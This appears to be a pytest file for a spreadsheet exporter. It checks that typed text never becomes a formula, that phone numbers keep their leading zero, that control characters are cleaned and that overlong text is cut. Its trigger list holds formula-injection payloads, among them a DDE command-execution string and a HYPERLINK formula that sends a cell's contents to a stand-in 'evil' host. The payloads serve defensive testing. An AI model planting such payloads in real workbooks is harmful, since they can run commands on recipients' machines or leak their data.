"""Text in a workbook never becomes a formula and survives as it was typed."""

from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import load_workbook as calamine

from shoptui.domain.table import Column, Kind, Row, Table
from shoptui.exchange.sheets import Book, GridSheet, ListSheet, TextSheet
from shoptui.exchange.workbook import write_workbook
from tests.exchange.tables import COLUMNS, DOLLAR, cells, column_texts, one_sheet, words

TRIGGERS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+84901234567",
    "-5+3",
    "@SUM(1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    " =1+1",
    "'=1+1",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "#N/A",
    "#REF!",
    "_x0041_",
    "{=1+1}",
]


@pytest.mark.parametrize("kind", list(Kind))
def test_no_trigger_is_a_formula_in_any_column(tmp_path: Path, kind: Kind) -> None:
    rows: list[Row] = [(text,) for text in TRIGGERS]
    sheet = one_sheet(tmp_path, Table("t", "=T()", (Column("c", "=1+1", kind),), rows, DOLLAR))
    assert {cell.data_type for cell in cells(sheet)} == {"s"}
    assert column_texts(sheet) == TRIGGERS


def test_a_reader_that_undoes_escapes_finds_what_was_typed(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    write_workbook(path, Book("Book", (ListSheet(words(*TRIGGERS)),)))
    rows = calamine(path).get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert [row[0] for row in rows[1:]] == TRIGGERS


def test_headings_and_pages_of_text_are_no_formulas_either(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    grid = Table("g", "=1+1", (Column("a", "=1+1"), Column("b", "+2")), [("=3", "=4")], DOLLAR)
    sheets = (GridSheet("=heat", (grid,)), TextSheet("=about", (("=label", "=text"),)))
    write_workbook(path, Book("=book", sheets))
    found = [cell for sheet in load_workbook(path) for cell in cells(sheet) if cell.value]
    assert len(found) == 7
    assert {cell.data_type for cell in found} == {"s"}


def test_phones_keep_their_zero(tmp_path: Path) -> None:
    row: Row = ("Lan", "0901234567", 1, date(2026, 1, 1), 0.1, 1, 1)
    cell = one_sheet(tmp_path, Table("c", "C", COLUMNS, [row], DOLLAR)).cell(2, 2)
    assert (cell.value, cell.data_type, cell.number_format) == ("0901234567", "s", "@")


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("\x1b[31mAn\x00\x07", "[31mAn"),
        ("An\x9b31m\x7f", "An31m"),
        ("a\r\nb\rc\nd", "a\nb\nc\nd"),
        ("\ud800An\udfff", "�An�"),
        ("\uffffAn\ufffe", "An"),
        ("  two  spaces ", "  two  spaces "),
        ("<b>Tom & Co</b>]]>", "<b>Tom & Co</b>]]>"),
        ("_x0041_x0042_ _X0041_ __x0041_", "_x0041_x0042_ _X0041_ __x0041_"),
        ("_x000d_", "_x000d_"),
        ("👨‍👩‍👧 Hà", "👨‍👩‍👧 Hà"),
        ("x", "x"),
    ],
)
def test_awkward_text(tmp_path: Path, typed: str, kept: str) -> None:
    path = tmp_path / "book.xlsx"
    write_workbook(path, Book("Book", (ListSheet(words(typed)),)))
    assert calamine(path).get_sheet_by_index(0).to_python()[1] == [kept]


def test_a_text_that_just_fits_is_whole(tmp_path: Path) -> None:
    assert column_texts(one_sheet(tmp_path, words("A" * 32_767))) == ["A" * 32_767]


@pytest.mark.parametrize("letter", ["A", "ế", "👋"])
def test_a_text_too_long_is_cut_where_it_shows(tmp_path: Path, letter: str) -> None:
    (text,) = column_texts(one_sheet(tmp_path, words(letter * 40_000)))
    assert text.endswith(letter + "…")
    assert 32_766 <= len(text.encode("utf-16-le")) // 2 <= 32_767
